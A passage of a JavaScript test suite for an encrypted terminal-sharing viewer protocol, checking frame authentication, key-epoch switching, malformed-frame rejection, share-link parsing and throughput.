  await viewer.receiveFrame(await sharer.groupDirect(out('epoch 1'))); // (1, 0) would hide the drop
  assert.deepEqual(shown(viewer), ['StreamBroken:gap']);
  await assertResync(viewer, sharer);
});

test('a GROUP_DIRECT whose header position was altered fails auth and switches no key', async () => {
  const { viewer, sharer } = await joined();
  const f0 = await sharer.groupDirect(out('a'));
  const f1 = await sharer.groupDirect(out('b'));
  await viewer.receiveFrame(withField(f1, 10, 0)); // (0, 1) claims (0, 0), the expected position
  assert.deepEqual(shown(viewer), ['StreamBroken:auth']);
  await assertResync(viewer, sharer);
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 0));
  await viewer.receiveFrame(f0);
  await viewer.receiveFrame(f1);
  assert.deepEqual(shown(viewer), ['Snapshot', 'Output:a', 'Output:b']);

  await viewer.receiveFrame(await sharer.rekey());
  const e1s0 = await sharer.groupDirect(out('c'));
  const e1s1 = await sharer.groupDirect(out('d'));
  await viewer.receiveFrame(withField(e1s1, 10, 0)); // claims (1, 0), where the pending key takes over
  assert.deepEqual(shown(viewer), ['StreamBroken:auth']);
  await assertResync(viewer, sharer);
  // The viewer refuses a snapshot of epoch 0 once it switched keys: it did not, and the real (1, 0) does.
  sharer.groupEpoch = 0; // what the sharer's snapshot names
  await viewer.receiveFrame(await sharer.snapshot(undefined, 80, 24, 2));
  await viewer.receiveFrame(e1s0);
  await viewer.receiveFrame(e1s1);
  assert.deepEqual(shown(viewer), ['Snapshot', 'Output:c', 'Output:d']);
});

test('GROUP_DIRECT in the handshake or before the snapshot is ignored', async () => {
  const sharer = await new FakeSharer().init();
  const viewer = new ViewerProtocol({ link: sharer.link() });
  await viewer.receiveFrame(sharer.ready(5));
  const { frame: welcome } = await sharer.welcome(viewer.framesToSend()[0]);
  const early = await sharer.groupDirect(out('early')); // (0, 0), ahead of the SNAPSHOT
  await viewer.receiveFrame(early); // HANDSHAKE
  await viewer.receiveFrame(welcome);
  await viewer.receiveFrame(early); // SYNCING
  await viewer.receiveFrame(withField(early, 2, 9)); // unread, so not even its recipient matters
  assert.deepEqual(shown(viewer), ['Ready', 'Welcomed']);
  assert.deepEqual(viewer.framesToSend(), []);
  assert.equal(viewer.state, 'SYNCING');
  await viewer.receiveFrame(await sharer.snapshot()); // continues at (0, 1)
  await viewer.receiveFrame(early);
  await viewer.receiveFrame(await sharer.groupDirect(out('live')));
  assert.deepEqual(shown(viewer), ['Snapshot', 'Output:live']);
});

test('a GROUP_DIRECT with a truncated or oversized body is a frame error', async () => {
  /** @type {[string, (f: Uint8Array) => Uint8Array][]} */
  const cases = [
    ['a byte short of its length', (f) => f.subarray(0, f.length - 1)],
    ['a byte past its length', (f) => concat(f, Uint8Array.of(0))],
    ['a tag but no type byte', (f) => concat(makeHeader(FrameKind.GROUP_DIRECT, 16, 5), f.subarray(-16))],
    ['over MAX_FRAME', (f) => withField(concat(f.subarray(0, 18), new Uint8Array(MAX_FRAME - 17)), 14, MAX_FRAME - 17)],
  ];
  for (const [name, mangle] of cases) {
    const { viewer, sharer } = await joined();
    await viewer.receiveFrame(mangle(await sharer.groupDirect(out('0123456789'))));
    assert.deepEqual(shown(viewer), ['ProtocolFailed:FrameError:4400'], name);
    assert.equal(viewer.closeCode, CloseCode.BAD_FRAME);
  }
  const { viewer, sharer } = await joined(); // shortened with a consistent length: the AEAD check fails
  const short = (await sharer.groupDirect(out('0123456789'))).subarray(0, -1);
  await viewer.receiveFrame(withField(short, 14, short.length - 18));
  assert.deepEqual(shown(viewer), ['StreamBroken:auth']);
});

test('an authentic GROUP_DIRECT carrying a channel message is fatal', async () => {
  for (const message of [{ type: MessageType.PONG, token: 1 }, { type: MessageType.REMOVED }]) {
    const { viewer, sharer } = await joined();
    await viewer.receiveFrame(await sharer.groupDirect(message));
    assert.deepEqual(shown(viewer), ['ProtocolFailed:MessageError:4400']);
  }
});

test('checkCryptoSupport reports everything available on Node 20', async () => {
  const { checkCryptoSupport } = await import('../src/protocol/index.js');
  assert.deepEqual(await checkCryptoSupport(), { ok: true, missing: [] });
});

test('ArrayBuffer and offset views are accepted', async () => {
  const { viewer, sharer } = await joined();
  const frame = await sharer.output('view');
  const padded = new Uint8Array(frame.length + 7);
  padded.set(frame, 7);
  await viewer.receiveFrame(padded.subarray(7));
  const f2 = await sharer.output('buffer');
  await viewer.receiveFrame(f2.slice().buffer);
  assert.deepEqual(viewer.eventsReceived().map((e) => new TextDecoder().decode(e.data)), ['view', 'buffer']);
});

test('links: round trip, Python-compatible corner cases, errors', () => {
  const FP = new Uint8Array(16).fill(7);
  const KEY = b64uEncode(concat(RW, FP));
  const link = parseLink(`  HTTPS://Relay.example:8443/pre/fix/s/${SID}?q=1#w.${KEY}  `);
  assert.deepEqual({ ...link, secret: hex(link.secret), keyFp: hex(link.keyFp) },
    { base: 'https://Relay.example:8443/pre/fix', sid: SID, role: 'rw', secret: hex(RW), keyFp: hex(FP) });
  assert.equal(formatLink({ ...link, base: link.base + '/' }), `https://Relay.example:8443/pre/fix/s/${SID}#w.${KEY}`);
  // unused trailing bits are ignored, as Python's base64 decoder does
  assert.equal(hex(parseLink(`${BASE}/s/${SID}#r.${'A'.repeat(42)}B`).secret), '00'.repeat(16));
  assert.throws(() => parseLink(`${BASE}/s/${SID}#r.${b64uEncode(RW)}`), LinkError, 'a secret without the key fingerprint');
  for (const bad of [`${BASE}/s/${SID}#r.`, `${BASE}/s/${SID}#R.${b64uEncode(RW)}`, `${BASE}/s/${SID}#r.${b64uEncode(RW)}=`,
    `${BASE}/s/${SID}#r.${b64uEncode(RW)}#`, `${BASE}/s/${SID}x#r.${b64uEncode(RW)}`, `http:///s/${SID}#r.${b64uEncode(RW)}`,
    `http://[::1/s/${SID}#r.${b64uEncode(RW)}`, /** @type {any} */ (null)]) {
    assert.throws(() => parseLink(bad), LinkError, String(bad));
  }
});

test('throughput: 64 KiB GROUP frames (informational)', async (t) => {
  const { viewer, sharer } = await joined();
  const data = crypto.getRandomValues(new Uint8Array(MAX_INPUT));
  const frames = [];
  for (let i = 0; i < 200; i++) frames.push(await sharer.output(data));
  const start = performance.now();
  for (const f of frames) await viewer.receiveFrame(f);
  const seconds = (performance.now() - start) / 1000;
  const events = viewer.eventsReceived();
  assert.equal(events.length, frames.length);
  const mbps = (frames.length * data.length) / seconds / 1e6;
  t.diagnostic(`viewer throughput: ${mbps.toFixed(1)} MB/s (${((seconds * 1e6) / frames.length).toFixed(0)} us/frame)`);
  assert.ok(mbps > 5, `throughput ${mbps} MB/s is far too low`);
});
